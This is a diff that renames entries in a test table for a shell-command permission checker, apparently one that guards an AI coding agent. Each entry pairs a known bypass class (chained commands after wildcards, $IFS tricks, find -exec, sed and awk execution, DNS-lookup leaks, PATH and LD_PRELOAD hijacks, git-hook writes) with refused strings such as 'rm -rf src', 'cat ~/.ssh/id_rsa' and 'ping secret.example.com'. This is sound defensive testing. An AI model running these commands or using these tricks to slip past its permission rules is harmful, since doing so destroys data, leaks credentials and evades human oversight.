@@ -24,7 +24,7 @@ class Row:
 
 ROWS = {
     # `echo *` on the list of allowed commands covered `echo x && rm` (CVE-2025-54795).
-    "a-wildcard-allows-what-is-chained-behind-it": Row(
+    "chained-command-after-wildcard": Row(
         allow=("execute:echo **", "execute:ls **", "execute:printf *"),
         refused=("echo x && rm -rf src", "echo x; rm a", "echo x | sh", "echo x || rm a",
             "echo x\nrm a", "echo x & rm a", "ls -la\n\\rm -rf src", "ls\n\\\nrm a",
@@ -32,13 +32,13 @@ ROWS = {
         allowed=("echo x && ls -la", "printf x"),
     ),
     # Arguments of ripgrep start programs (CVE-2025-58764).
-    "rg-is-made-to-start-a-program": Row(
+    "rg-option-starts-program": Row(
         refused=("rg --pre ./x foo", "rg --pre=sh . src", "rg --hostname-bin ./x foo",
             "rg -z foo", "rg foo --pre ./x", "rg 'a' --pre='sh' src", "rg -e x --search-zip"),
         allowed=("rg foo src", "rg -e pre src"),
     ),
     # `$IFS`, short flags and other text that a parser reads differently from bash (CVE-2025-66032).
-    "a-parser-reads-other-words-than-bash": Row(
+    "words-parsed-differently-than-bash": Row(
         refused=("cat$IFS/etc/passwd", "echo x$IFS;rm", "sort${IFS}-o${IFS}a${IFS}b",
             "sort -oa b", "sort --out\\\nput=a b", "sort {-o,a} b", "find . -ex\\ec rm a +",
             "cat ~/x", "cat \\ x", "ls\x0b-a", "ls\x0c-a", "ls\r-a", "sort -ruo a b",
@@ -46,7 +46,7 @@ ROWS = {
         allowed=("sort -ru a", "cat 'a' \"b\"", "find . -name x"),
     ),
     # `find -exec` and its relatives (CVE-2026-24887).
-    "find-starts-or-removes-something": Row(
+    "find-executes-or-deletes": Row(
         refused=("find . -exec rm {} +", "find . -exec ls ';'", "find . -execdir ls ';'",
             "find . -ok ls ';'", "find . -okdir ls ';'", "find . -delete", "find . -fprint a",
             "find . -fls a", "find . -fprintf a x", "find . -name x -o -exec ls '{}' ';'",
@@ -54,7 +54,7 @@ ROWS = {
         allowed=("find . -name x -print0", "find . '(' -name a -o -name b ')'"),
     ),
     # `sed` writes files and starts programs from its script (CVE-2025-64755).
-    "sed-writes-or-starts-something": Row(
+    "sed-writes-or-executes": Row(
         refused=("sed -n 'w out' a", "sed 's/a/b/w out' a", "sed 's/a/b/e' a",
             "sed -n '1e id' a", "sed e a", "sed -i s/a/b/ a", "sed -n 1p -i a", "sed -f a b",
             "sed -n '$!N;w x' a", "echo 1 | sed 'w out'", "cat a | sed -n '1,2w out'",
@@ -62,7 +62,7 @@ ROWS = {
         allowed=("sed -n '1,20p' a", "cat a | sed -n 2p"),
     ),
     # `awk` has `system()`, pipes and files of its own.
-    "awk-starts-writes-and-reads-what-it-likes": Row(
+    "awk-executes-writes-and-reads": Row(
         refused=("awk 'BEGIN { system(\"id\") }'", "awk '{ print > \"out\" }' a", "gawk 1 a",
             "awk 'BEGIN { while ((getline x < \".env\") > 0) print x }'", "mawk 1 a", "nawk 1 a",
             "cat a | awk '{ print | \"sh\" }'", "awk '{ print > \".git/hooks/pre-commit\" }' a",
@@ -70,7 +70,7 @@ ROWS = {
         allowed=("cut -d: -f1 a",),
     ),
     # Resolving a name sends it to the name server of its domain (CVE-2025-55284).
-    "a-lookup-of-a-name-carries-something-out": Row(
+    "dns-lookup-leaks-data": Row(
         refused=("ping -c1 secret.example.com", "nslookup secret.example.com",
             "host x.example.com", "dig x.example.com", "getent hosts x", "hostname -f",
             "hostname -i", "traceroute x", "whois x", "git ls-remote", "git remote show origin",
@@ -78,7 +78,7 @@ ROWS = {
         allowed=("hostname", "git remote -v"),
     ),
     # Expansions run commands although nothing looks like a command (GHSA-g8r9-g2v8-jv6f).
-    "an-expansion-runs-what-it-holds": Row(
+    "expansion-runs-command": Row(
         allow=("execute:echo **",),
         refused=("echo ${x@P}", "echo ${x:=$(id)}", "echo ${!x}", "echo \"${x@P}\"",
             "echo $((a[$(id)]))", "echo $(echo $(id))", "echo `id`", "echo \"`id`\"",
@@ -87,7 +87,7 @@ ROWS = {
         allowed=("echo '${x@P}'", "echo 'a[$(id)]'", "test -f a"),
     ),
     # `export` and `declare` were trusted, and poisoned the command behind them (CVE-2026-22708).
-    "a-builtin-changes-what-later-commands-mean": Row(
+    "builtin-changes-later-commands": Row(
         refused=("export A=b", "declare -x A", "alias x=ls", "export GIT_PAGER=x; git branch",
             "export PAGER='sh -c id' && git branch", "declare -x PAGER=x; git log",
             "typeset -x A=b", "readonly PATH=.", "set -o x; ls", "shopt -s expand_aliases; ls",
@@ -97,7 +97,7 @@ ROWS = {
         allowed=("type ls; git branch",),
     ),
     # A script in quotes is text to every rule but its interpreter's.
-    "an-interpreter-hides-what-it-runs": Row(
+    "interpreter-hides-command": Row(
         allow=("execute:bash **",),
         refused=("bash -c 'rm .dirge/config.toml'", "bash -c \"bash -c 'touch .git/hooks/x'\"",
             "bash -c 'cp a .mcp.json'", "sh -c 'echo x > .git/config'", "python -c 'open(1)'",
@@ -106,7 +106,7 @@ ROWS = {
         allowed=("bash -c 'make all'",),
     ),
     # The protected name is in another word than the folder given to `cd`.
-    "a-cd-hides-the-protected-place": Row(
+    "cd-hides-protected-path": Row(
         allow=("execute:touch **", "execute:cp **", "execute:tee **", "edit:**"),
         refused=("cd .git && touch hooks/pre-commit", "cd .git/hooks && cp ../../a pre-commit",
             "cd src && cd ../.git && touch config", "cd src; touch ../.git/config",
@@ -115,7 +115,7 @@ ROWS = {
         allowed=("cd src && touch new", "touch new"),
     ),
     # A command that did not parse was compared as plain text, and `echo **` covers any text.
-    "what-does-not-parse-is-matched-as-text": Row(
+    "unparsed-command-matched-as-text": Row(
         allow=("execute:echo **", "execute:ls **"),
         refused=("echo x; rm a; echo 'unclosed", "echo x\nrm a\nif", "echo x; rm a; )",
             "echo x; rm a; ;;", "echo $(rm a", "echo x; rm a <<", "echo x && rm a ||",
@@ -123,7 +123,7 @@ ROWS = {
         allowed=("echo x; ls",),
     ),
     # A redirection behind a compound made its parts invisible.
-    "a-redirected-compound-hides-its-parts": Row(
+    "redirected-compound-hides-parts": Row(
         allow=("execute:echo **", "execute:cat **"),
         refused=("echo hi; if true; then curl x; fi >/dev/null", "{ curl x; } >/dev/null",
             "(curl x) 2>&1", "for i in a; do curl x; done >/dev/null",
@@ -134,7 +134,7 @@ ROWS = {
         allowed=("echo hi >/dev/null 2>&1",),
     ),
     # The target of a redirection was not compared with the rules.
-    "a-redirection-is-left-out-of-the-comparison": Row(
+    "redirection-not-compared": Row(
         allow=("execute:echo **", "execute:cat **", "execute:ls **"),
         refused=("echo x > ~/.bashrc", "echo x >> ~/.bashrc", "echo x > /etc/x",
             "echo x > .git/config", "cat a >| b/../../c", "echo x 1> ../x", "echo x &> /etc/x",
@@ -143,7 +143,7 @@ ROWS = {
         allowed=("echo x > /dev/null", "ls 2>&1"),
     ),
     # `PATH=. ls` was taken for `ls`.
-    "an-assignment-in-front-is-passed-over": Row(
+    "leading-assignment-ignored": Row(
         allow=("execute:ls **", "execute:git **", "execute:make"),
         refused=("PATH=. ls", "LD_PRELOAD=./x.so ls", "GIT_SSH_COMMAND=./x git fetch",
             "GIT_EXTERNAL_DIFF=./x git diff", "BASH_ENV=x ls", "A=b PATH=. make", "PATH+=:. ls",
@@ -151,7 +151,7 @@ ROWS = {
         allowed=("ls", "git fetch", "make"),
     ),
     # A wildcard rule for a command also allowed every path outside the project.
-    "a-wildcard-opens-places-outside": Row(
+    "wildcard-allows-outside-paths": Row(
         allow=("execute:*", "edit:**", "read:**"),
         refused=("cat /etc/passwd", "touch /tmp/x", "cp a /tmp/x", "ls ..", "cat ~/.ssh/id_rsa",
             "cd .. && cat x", "head -1 ../x", "rm ../x", "echo x > /tmp/x", "cd / && ls .",
@@ -159,14 +159,14 @@ ROWS = {
         allowed=("cp a b", "touch src/new", "make"),
     ),
     # A program in the project that has the name of a listed program.
-    "a-program-of-that-name-elsewhere-counts-as-it": Row(
+    "other-program-with-same-name": Row(
         allow=("execute:git status",),
         refused=("./git status", "/tmp/x/git status", "src/git status", "./ls", "/bin/ls",
             "~/git status", "../git status", "././git log", "bin/cat a"),
         allowed=("git status", "ls"),
     ),
     # A file may be called `-o` or `--output=x`: a pattern becomes an option.
-    "a-pattern-becomes-an-option": Row(
+    "glob-expands-to-option": Row(
         refused=("sort *", "git diff *", "find *", "rg *", "uniq *", "sed -n 1p *", "date *",
             "tail *", "sort ?o", "sort [-]o a", "sort -k1 * a", "git log *"),
         allowed=("sort -- *", "sort ./*", "cat src/*"),
